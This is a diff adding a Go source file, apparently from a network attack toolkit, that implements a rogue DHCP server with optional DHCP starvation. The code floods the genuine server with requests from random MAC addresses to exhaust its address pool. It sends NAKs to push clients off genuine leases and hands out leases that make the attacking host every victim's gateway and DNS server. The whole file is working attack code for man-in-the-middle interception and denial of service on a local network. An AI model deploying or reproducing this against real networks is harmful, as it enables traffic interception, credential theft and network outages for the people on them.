@@ -0,0 +1,478 @@
+package spoof
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"errors"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"sync"
+	"time"
+)
+
+// A lease handed out by the rogue DHCP server.
+type DHCPLease struct {
+	Mac      net.HardwareAddr
+	Addr     net.IP
+	Hostname string
+	Expires  time.Time
+}
+
+// Answers DHCPDISCOVER/REQUEST on the Network, making us the gateway and DNS
+// server of every client we win the race for. With Starve set, the genuine
+// server's pool is exhausted first by leasing addresses for random MACs.
+//
+// Implements Spoof interface.
+type DHCP struct {
+	stats
+	// first and last address of the pool
+	PoolStart net.IP
+	PoolEnd   net.IP
+	Mask      net.IPMask
+	// default: Localhost
+	Router net.IP
+	// default: Localhost
+	DNS       []net.IP
+	Domain    string
+	LeaseTime time.Duration
+	// handed out in addition, e.g. WPAD.DHCPOption()
+	Extra layers.DHCPOptions
+	// lease the genuine server's pool for random MACs, a DISCOVER every
+	// StarveRate; a DISCOVER not offered anything within StarveTimeout is
+	// unanswered, starvation ends after StarveGiveUp unanswered in a row
+	Starve        bool
+	StarveRate    time.Duration
+	StarveTimeout time.Duration
+	StarveGiveUp  int
+
+	net      *discovery.Network
+	listener *discovery.Listener
+	lock     sync.Mutex
+	leases   map[string]*DHCPLease
+	// xid -> fake client of the starvation
+	starving   map[uint32]*starveClient
+	starved    int
+	unanswered int
+	cancel     context.CancelFunc
+}
+
+// Hand out addresses <first> .. <last> of the Network's subnet.
+func NewDHCP(n *discovery.Network, first, last string) (*DHCP, error) {
+	start, end := net.ParseIP(first).To4(), net.ParseIP(last).To4()
+	if start == nil || end == nil {
+		return nil, errors.New("parsing err")
+	}
+	if ip2int(start) > ip2int(end) {
+		return nil, errors.New("empty pool")
+	}
+	subnet, err := n.Subnet()
+	if err != nil {
+		return nil, err
+	}
+	if !subnet.Contains(start) || !subnet.Contains(end) {
+		return nil, errors.New("pool outside of " + subnet.String())
+	}
+	return &DHCP{
+		PoolStart:     start,
+		PoolEnd:       end,
+		Mask:          subnet.Mask,
+		Router:        n.Localhost.Addr,
+		DNS:           []net.IP{n.Localhost.Addr},
+		LeaseTime:     time.Hour,
+		StarveRate:    time.Millisecond * 50,
+		StarveTimeout: time.Second * 2,
+		StarveGiveUp:  20,
+		net:           n,
+		leases:        make(map[string]*DHCPLease, 20),
+		starving:      make(map[uint32]*starveClient, 20),
+	}, nil
+}
+
+// A fake client of the starvation.
+type starveClient struct {
+	mac  net.HardwareAddr
+	sent time.Time
+	// the genuine server offered something
+	offered bool
+}
+
+var dhcpReason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof dhcp"}
+
+// start answering (and starving)
+func (d *DHCP) Start() error {
+	var err error
+	d.listener, err = d.net.Listeners.Add(dhcpReason, d.handle,
+		discovery.LayerFilter(layers.LayerTypeDHCPv4))
+	if err != nil {
+		return err
+	}
+	var ctx context.Context
+	ctx, d.cancel = context.WithCancel(context.Background())
+	if d.Starve {
+		go d.starve_loop(ctx)
+	}
+	return nil
+}
+
+// stop answering; handed out leases stay valid until they expire
+func (d *DHCP) Stop() {
+	if d.cancel == nil {
+		// never started
+		return
+	}
+	d.cancel()
+	d.listener.Remove()
+}
+
+// Snapshot of all current leases.
+func (d *DHCP) Leases() []DHCPLease {
+	d.lock.Lock()
+	defer d.lock.Unlock()
+	leases := make([]DHCPLease, 0, len(d.leases))
+	for _, l := range d.leases {
+		leases = append(leases, *l)
+	}
+	return leases
+}
+
+func (d *DHCP) handle(pkt gopacket.Packet) {
+	dhcplayer := pkt.Layer(layers.LayerTypeDHCPv4)
+	ethlayer := pkt.Layer(layers.LayerTypeEthernet)
+	if dhcplayer == nil || ethlayer == nil {
+		return
+	}
+	req := dhcplayer.(*layers.DHCPv4)
+	eth := ethlayer.(*layers.Ethernet)
+	if req.Operation == layers.DHCPOpReply {
+		d.starveReply(req)
+		return
+	}
+	if bytes.Equal(eth.SrcMAC, d.net.Localhost.Mac) || d.isStarving(req) {
+		return
+	}
+
+	switch dhcpMsgType(req) {
+	case layers.DHCPMsgTypeDiscover:
+		lease := d.lease(req.ClientHWAddr, dhcpOptIP(req, layers.DHCPOptRequestIP))
+		if lease == nil {
+			log.Printf("dhcp: pool exhausted, ignoring %v", req.ClientHWAddr)
+			return
+		}
+		d.reply(req, layers.DHCPMsgTypeOffer, lease.Addr)
+	case layers.DHCPMsgTypeRequest:
+		if sid := dhcpOptIP(req, layers.DHCPOptServerID); sid != nil &&
+			!sid.Equal(d.net.Localhost.Addr) {
+			// client picked the genuine server
+			return
+		}
+		want := dhcpOptIP(req, layers.DHCPOptRequestIP)
+		if want == nil {
+			want = req.ClientIP
+		}
+		// only what we offered, nothing new before the NAK
+		lease := d.renew(req.ClientHWAddr)
+		if lease == nil || !lease.Addr.Equal(want) {
+			// renewal of a genuine lease: force the client to rediscover
+			d.reply(req, layers.DHCPMsgTypeNak, nil)
+			return
+		}
+		d.lock.Lock()
+		lease.Hostname = string(dhcpOpt(req, layers.DHCPOptHostname))
+		hostname := lease.Hostname
+		d.lock.Unlock()
+		d.reply(req, layers.DHCPMsgTypeAck, lease.Addr)
+		d.hit(lease.Addr.String())
+		log.Printf("[+] dhcp: %v @ %v (%s)", lease.Mac, lease.Addr, hostname)
+	case layers.DHCPMsgTypeRelease, layers.DHCPMsgTypeDecline:
+		d.lock.Lock()
+		delete(d.leases, req.ClientHWAddr.String())
+		d.lock.Unlock()
+	}
+}
+
+// The current lease of <mac>, extended by LeaseTime, nil if there is none.
+func (d *DHCP) renew(mac net.HardwareAddr) *DHCPLease {
+	d.lock.Lock()
+	defer d.lock.Unlock()
+	now := time.Now()
+	l, exists := d.leases[mac.String()]
+	if !exists || now.After(l.Expires) {
+		return nil
+	}
+	l.Expires = now.Add(d.LeaseTime)
+	return l
+}
+
+// Lease for <mac>, preferring its current one, then <want>, then the first
+// free address of the pool. nil if the pool is exhausted.
+func (d *DHCP) lease(mac net.HardwareAddr, want net.IP) *DHCPLease {
+	d.lock.Lock()
+	defer d.lock.Unlock()
+	now := time.Now()
+	if l, exists := d.leases[mac.String()]; exists {
+		l.Expires = now.Add(d.LeaseTime)
+		return l
+	}
+
+	used := make(map[uint32]bool, len(d.leases)+2)
+	for k, l := range d.leases {
+		if now.After(l.Expires) {
+			delete(d.leases, k)
+			continue
+		}
+		used[ip2int(l.Addr)] = true
+	}
+	used[ip2int(d.net.Localhost.Addr)] = true
+	used[ip2int(d.Router)] = true
+
+	first, last := ip2int(d.PoolStart), ip2int(d.PoolEnd)
+	var addr net.IP
+	if w := ip2int(want); want != nil && w >= first && w <= last && !used[w] {
+		addr = want.To4()
+	} else {
+		for i := first; i <= last; i++ {
+			if !used[i] {
+				addr = int2ip(i)
+				break
+			}
+		}
+	}
+	if addr == nil {
+		return nil
+	}
+	l := &DHCPLease{
+		Mac:     mac,
+		Addr:    addr,
+		Expires: now.Add(d.LeaseTime),
+	}
+	d.leases[mac.String()] = l
+	return l
+}
+
+func (d *DHCP) reply(req *layers.DHCPv4, t layers.DHCPMsgType, yiaddr net.IP) {
+	lease := make([]byte, 4)
+	binary.BigEndian.PutUint32(lease, uint32(d.LeaseTime/time.Second))
+	opts := layers.DHCPOptions{
+		layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(t)}),
+		layers.NewDHCPOption(layers.DHCPOptServerID, d.net.Localhost.Addr.To4()),
+	}
+	if t != layers.DHCPMsgTypeNak {
+		dns := make([]byte, 0, 4*len(d.DNS))
+		for _, ip := range d.DNS {
+			dns = append(dns, ip.To4()...)
+		}
+		opts = append(opts,
+			layers.NewDHCPOption(layers.DHCPOptLeaseTime, lease),
+			layers.NewDHCPOption(layers.DHCPOptSubnetMask, d.Mask[len(d.Mask)-4:]),
+			layers.NewDHCPOption(layers.DHCPOptRouter, d.Router.To4()),
+			layers.NewDHCPOption(layers.DHCPOptDNS, dns),
+		)
+		if d.Domain != "" {
+			opts = append(opts,
+				layers.NewDHCPOption(layers.DHCPOptDomainName, []byte(d.Domain)))
+		}
+		opts = append(opts, d.Extra...)
+	}
+	dhcpSend(&d.stats, d.net, req, yiaddr, opts)
+}
+
+// Server reply to <req> from our address: broadcast unless the client can
+// take unicast, i.e. has an address already (INFORM) or did not ask for it.
+func dhcpSend(s *stats, n *discovery.Network, req *layers.DHCPv4, yiaddr net.IP,
+	opts layers.DHCPOptions) {
+	dst := net.IPv4bcast
+	if ciaddr := req.ClientIP.To4(); ciaddr != nil && !ciaddr.IsUnspecified() {
+		dst = ciaddr
+	} else if req.Flags&0x8000 == 0 && yiaddr != nil {
+		dst = yiaddr
+	}
+	leth := layers.Ethernet{
+		SrcMAC:       n.Localhost.Mac,
+		DstMAC:       req.ClientHWAddr,
+		EthernetType: layers.EthernetTypeIPv4,
+	}
+	lip := layers.IPv4{
+		Version:  4,
+		TTL:      64,
+		Protocol: layers.IPProtocolUDP,
+		SrcIP:    n.Localhost.Addr,
+		DstIP:    dst,
+	}
+	ludp := layers.UDP{SrcPort: 67, DstPort: 68}
+	ludp.SetNetworkLayerForChecksum(&lip)
+	ldhcp := layers.DHCPv4{
+		Operation:    layers.DHCPOpReply,
+		HardwareType: layers.LinkTypeEthernet,
+		Xid:          req.Xid,
+		Flags:        req.Flags,
+		ClientIP:     req.ClientIP,
+		YourClientIP: yiaddr,
+		NextServerIP: n.Localhost.Addr,
+		ClientHWAddr: req.ClientHWAddr,
+		Options:      opts,
+	}
+	s.write(n, &leth, &lip, &ludp, &ldhcp)
+}
+
+func (d *DHCP) starve_loop(ctx context.Context) {
+	ticker := time.NewTicker(d.StarveRate)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-ticker.C:
+			if !d.starveDiscover() {
+				log.Printf("[+] dhcp: %d DISCOVERs unanswered, stop starving", d.StarveGiveUp)
+				return
+			}
+		case <-ctx.Done():
+			d.lock.Lock()
+			log.Printf("[+] dhcp: starved %d leases", d.starved)
+			d.lock.Unlock()
+			return
+		}
+	}
+}
+
+// DISCOVER as a random client, unless the genuine server stopped answering
+// (false), i.e. the pool is exhausted or there is no server.
+func (d *DHCP) starveDiscover() bool {
+	mac, xid := randomMAC(), randomXid()
+	now := time.Now()
+	d.lock.Lock()
+	for x, c := range d.starving {
+		if now.Sub(c.sent) > d.StarveTimeout {
+			delete(d.starving, x)
+			if !c.offered {
+				d.unanswered++
+			}
+		}
+	}
+	giveUp := d.unanswered >= d.StarveGiveUp
+	if !giveUp {
+		d.starving[xid] = &starveClient{mac: mac, sent: now}
+	}
+	d.lock.Unlock()
+	if giveUp {
+		return false
+	}
+	d.request(mac, xid, layers.DHCPOptions{
+		layers.NewDHCPOption(layers.DHCPOptMessageType,
+			[]byte{byte(layers.DHCPMsgTypeDiscover)}),
+	})
+	return true
+}
+
+// REQUEST every address the genuine server offers to a fake client
+func (d *DHCP) starveReply(reply *layers.DHCPv4) {
+	d.lock.Lock()
+	client, exists := d.starving[reply.Xid]
+	if exists && dhcpMsgType(reply) == layers.DHCPMsgTypeOffer {
+		client.offered = true
+		d.unanswered = 0
+	} else if exists {
+		delete(d.starving, reply.Xid)
+		if dhcpMsgType(reply) == layers.DHCPMsgTypeAck {
+			d.starved++
+		}
+	}
+	d.lock.Unlock()
+	if !exists || dhcpMsgType(reply) != layers.DHCPMsgTypeOffer {
+		return
+	}
+	d.request(client.mac, reply.Xid, layers.DHCPOptions{
+		layers.NewDHCPOption(layers.DHCPOptMessageType,
+			[]byte{byte(layers.DHCPMsgTypeRequest)}),
+		layers.NewDHCPOption(layers.DHCPOptRequestIP, reply.YourClientIP.To4()),
+		layers.NewDHCPOption(layers.DHCPOptServerID,
+			dhcpOptIP(reply, layers.DHCPOptServerID).To4()),
+	})
+}
+
+func (d *DHCP) isStarving(req *layers.DHCPv4) bool {
+	d.lock.Lock()
+	defer d.lock.Unlock()
+	_, exists := d.starving[req.Xid]
+	return exists
+}
+
+// broadcast a client message from <mac>
+func (d *DHCP) request(mac net.HardwareAddr, xid uint32, opts layers.DHCPOptions) {
+	leth := layers.Ethernet{
+		SrcMAC:       mac,
+		DstMAC:       layers.EthernetBroadcast,
+		EthernetType: layers.EthernetTypeIPv4,
+	}
+	lip := layers.IPv4{
+		Version:  4,
+		TTL:      64,
+		Protocol: layers.IPProtocolUDP,
+		SrcIP:    net.IPv4zero,
+		DstIP:    net.IPv4bcast,
+	}
+	ludp := layers.UDP{SrcPort: 68, DstPort: 67}
+	ludp.SetNetworkLayerForChecksum(&lip)
+	ldhcp := layers.DHCPv4{
+		Operation:    layers.DHCPOpRequest,
+		HardwareType: layers.LinkTypeEthernet,
+		Xid:          xid,
+		Flags:        0x8000,
+		ClientHWAddr: mac,
+		Options:      opts,
+	}
+	d.write(d.net, &leth, &lip, &ludp, &ldhcp)
+}
+
+func dhcpOpt(p *layers.DHCPv4, t layers.DHCPOpt) []byte {
+	for _, o := range p.Options {
+		if o.Type == t {
+			return o.Data
+		}
+	}
+	return nil
+}
+
+func dhcpOptIP(p *layers.DHCPv4, t layers.DHCPOpt) net.IP {
+	if data := dhcpOpt(p, t); len(data) == 4 {
+		return net.IP(data)
+	}
+	return nil
+}
+
+func dhcpMsgType(p *layers.DHCPv4) layers.DHCPMsgType {
+	if data := dhcpOpt(p, layers.DHCPOptMessageType); len(data) == 1 {
+		return layers.DHCPMsgType(data[0])
+	}
+	return layers.DHCPMsgTypeUnspecified
+}
+
+func ip2int(ip net.IP) uint32 {
+	if ip4 := ip.To4(); ip4 != nil {
+		return binary.BigEndian.Uint32(ip4)
+	}
+	return 0
+}
+
+func int2ip(i uint32) net.IP {
+	ip := make(net.IP, 4)
+	binary.BigEndian.PutUint32(ip, i)
+	return ip
+}
+
+// random unicast, locally administered MAC
+func randomMAC() net.HardwareAddr {
+	mac := make(net.HardwareAddr, 6)
+	rand.Read(mac)
+	mac[0] = mac[0]&0xfe | 0x02
+	return mac
+}
+
+func randomXid() uint32 {
+	b := make([]byte, 4)
+	rand.Read(b)
+	return binary.BigEndian.Uint32(b)
+}